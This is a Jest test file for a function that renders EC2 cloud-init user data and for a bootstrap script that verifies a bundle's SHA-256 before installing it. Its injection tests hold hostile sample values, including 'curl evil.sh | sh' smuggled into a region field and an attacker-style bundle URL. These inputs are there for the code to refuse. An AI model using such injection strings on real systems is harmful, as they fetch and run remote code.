/**
 * The user data: a cloud-config that `cloud-init schema` accepts, small, free of Terraform template
 * syntax outside the values, refusing malformed values, and whose bootstrap script (shellcheck-clean)
 * runs the installer only from a bundle with the expected SHA-256 (dry run with stub commands).
 */
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { parse } from "yaml";
import { BOOTSTRAP_ENV_PATH, BOOTSTRAP_SCRIPT, BOOTSTRAP_SCRIPT_PATH, renderUserData, type UserDataParams } from "../src/user-data";

const SHA = "ab".repeat(32);
const PARAMS: UserDataParams = {
  region: "eu-central-1",
  bundleS3Uri: `s3://oh-artifacts/host-bundle/${SHA}.zip`,
  bundleSha256: SHA,
  hostConfigParameter: "/oh/prod/host/config",
};

interface WriteFile {
  path: string;
  content: string;
  permissions: string;
}

function writeFiles(userData: string): WriteFile[] {
  return (parse(userData) as { write_files: WriteFile[] }).write_files;
}

const tmp = mkdtempSync(join(tmpdir(), "oh-user-data-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe("renderUserData", () => {
  it("GIVEN literal values WHEN rendered THEN cloud-init's own schema check accepts the cloud-config", () => {
    const file = join(tmp, "user-data.yaml");
    writeFileSync(file, renderUserData(PARAMS));
    const result = spawnSync("cloud-init", ["schema", "--config-file", file], { encoding: "utf8" });
    expect(`${result.stdout}${result.stderr}`).toContain("Valid cloud-config");
    expect(result.status).toBe(0);
  });

  it("GIVEN a broken cloud-config WHEN checked THEN cloud-init's schema check refuses it (the check can fail)", () => {
    const file = join(tmp, "broken.yaml");
    writeFileSync(file, renderUserData(PARAMS).replace("runcmd:\n  - [", "runcmd: [\n  - ["));
    const result = spawnSync("cloud-init", ["schema", "--config-file", file], { encoding: "utf8" });
    expect(result.status).not.toBe(0);
  });

  it("GIVEN CDKTF tokens as values WHEN rendered THEN they are embedded verbatim and are the only ${ in the text", () => {
    const out = renderUserData({
      region: "eu-central-1",
      bundleS3Uri: "s3://${TfToken[TOKEN.12]}/${TfToken[TOKEN.13]}",
      bundleSha256: SHA,
      hostConfigParameter: "${TfToken[TOKEN.14]}",
    });
    expect(out).toContain("OH_BUNDLE_S3_URI='s3://${TfToken[TOKEN.12]}/${TfToken[TOKEN.13]}'");
    expect(out).toContain("OH_HOST_CONFIG_PARAMETER='${TfToken[TOKEN.14]}'");
    // Terraform would read any other ${ or %{ as its own template syntax
    const rest = out.replace(/\$\{TfToken\[TOKEN\.\d+\]\}/g, "");
    expect(rest).not.toContain("${");
    expect(rest).not.toContain("%{");
  });

  it("GIVEN the values WHEN rendered THEN they go to the bootstrap settings file and the script runs once from runcmd", () => {
    const out = renderUserData(PARAMS);
    const files = writeFiles(out);
    const env = files.find((f) => f.path === BOOTSTRAP_ENV_PATH)!;
    expect(env.content).toBe(
      `OH_REGION='eu-central-1'\nOH_BUNDLE_S3_URI='s3://oh-artifacts/host-bundle/${SHA}.zip'\nOH_BUNDLE_SHA256='${SHA}'\n` +
        `OH_HOST_CONFIG_PARAMETER='/oh/prod/host/config'\n`,
    );
    const script = files.find((f) => f.path === BOOTSTRAP_SCRIPT_PATH)!;
    expect(script.content).toBe(BOOTSTRAP_SCRIPT);
    expect(script.permissions).toBe("0755");
    expect((parse(out) as { runcmd: string[][] }).runcmd).toEqual([[BOOTSTRAP_SCRIPT_PATH]]);
  });

  it("GIVEN the rendered user data WHEN gzipped as the launch template does THEN it is far below EC2's 16 KB limit", () => {
    const out = renderUserData(PARAMS);
    expect(Buffer.byteLength(out)).toBeLessThan(16 * 1024);
    expect(gzipSync(out).length).toBeLessThan(4 * 1024);
  });

  it.each([
    ["region", "eu-central-1'; curl evil.sh | sh; '"],
    ["region", "eu central 1"],
    ["bundleS3Uri", "s3://bucket/key.zip'\nruncmd: [reboot]"],
    ["bundleS3Uri", "https://evil.example.com/bundle.zip"],
    ["bundleSha256", "AB".repeat(32)],
    ["bundleSha256", "abc"],
    ["hostConfigParameter", "/oh/prod/host/config' && reboot #"],
    ["hostConfigParameter", "no-leading-slash"],
  ] as const)("GIVEN %s = %j (injection or malformed) WHEN rendered THEN it is refused naming the field", (field, value) => {
    expect(() => renderUserData({ ...PARAMS, [field]: value })).toThrow(new RegExp(`renderUserData: ${field} .* is not`));
  });
});

describe("bootstrap script (dry run)", () => {
  const stubs = join(tmp, "stubs");
  const log = join(tmp, "calls.log");
  const zipDir = join(tmp, "zip");

  /** Root with the settings file, a stub `aws s3 cp` that serves `archive`, and an installer that records its arguments. */
  function prepare(name: string, archive: string, sha: string): string {
    const root = join(tmp, name);
    mkdirSync(join(root, "etc", "openhands-team"), { recursive: true });
    writeFileSync(
      join(root, BOOTSTRAP_ENV_PATH),
      `OH_REGION='eu-central-1'\nOH_BUNDLE_S3_URI='s3://oh-artifacts/host-bundle/x.zip'\nOH_BUNDLE_SHA256='${sha}'\n` +
        `OH_HOST_CONFIG_PARAMETER='/oh/prod/host/config'\n`,
    );
    writeFileSync(join(root, "archive-to-serve"), readFileSync(archive));
    return root;
  }

  beforeAll(() => {
    mkdirSync(stubs);
    const aws = join(stubs, "aws");
    writeFileSync(aws, `#!/usr/bin/env bash\necho "aws $*" >> "${log}"\ncp "$OH_ROOT/archive-to-serve" "\${@: -1}"\n`);
    chmodSync(aws, 0o755);
    const sleep = join(stubs, "sleep");
    writeFileSync(sleep, "#!/bin/sh\n");
    chmodSync(sleep, 0o755);
    symlinkSync("/usr/bin/unzip", join(stubs, "unzip"));
    mkdirSync(zipDir);
    writeFileSync(join(zipDir, "install.sh"), `#!/usr/bin/env bash\necho "install $*" >> "${log}"\n`);
    chmodSync(join(zipDir, "install.sh"), 0o755);
    spawnSync("zip", ["-q", "-X", join(tmp, "bundle.zip"), "install.sh"], { cwd: zipDir });
  });

  function runBootstrap(root: string) {
    writeFileSync(log, "");
    const script = join(tmp, "oh-bootstrap");
    writeFileSync(script, BOOTSTRAP_SCRIPT);
    const result = spawnSync("bash", [script], { encoding: "utf8", env: { PATH: `${stubs}:/usr/bin:/bin`, OH_ROOT: root } });
    return { code: result.status, stderr: result.stderr, calls: readFileSync(log, "utf8").trim().split("\n") };
  }

  it(
    "GIVEN a bundle with the expected SHA-256 WHEN the script runs THEN it unpacks the bundle and runs its installer with the region " +
      "and parameter",
    () => {
      const archive = join(tmp, "bundle.zip");
      const sha = createHash("sha256").update(readFileSync(archive)).digest("hex");
      const root = prepare("good", archive, sha);
      const result = runBootstrap(root);
      expect(result.stderr).toBe("");
      expect(result.code).toBe(0);
      expect(result.calls[0]).toMatch(
        /^aws s3 cp --only-show-errors --region eu-central-1 s3:\/\/oh-artifacts\/host-bundle\/x.zip .*\.zip\.part$/,
      );
      expect(result.calls[1]).toBe("install --region eu-central-1 --host-config-parameter /oh/prod/host/config");
    },
  );

  it("GIVEN a tampered bundle (another SHA-256) WHEN the script runs THEN it refuses it and runs nothing", () => {
    const archive = join(tmp, "bundle.zip");
    const root = prepare("tampered", archive, "0".repeat(64));
    const result = runBootstrap(root);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain("does not have the SHA-256");
    expect(result.calls.filter((c) => c.startsWith("install"))).toEqual([]);
  });
});
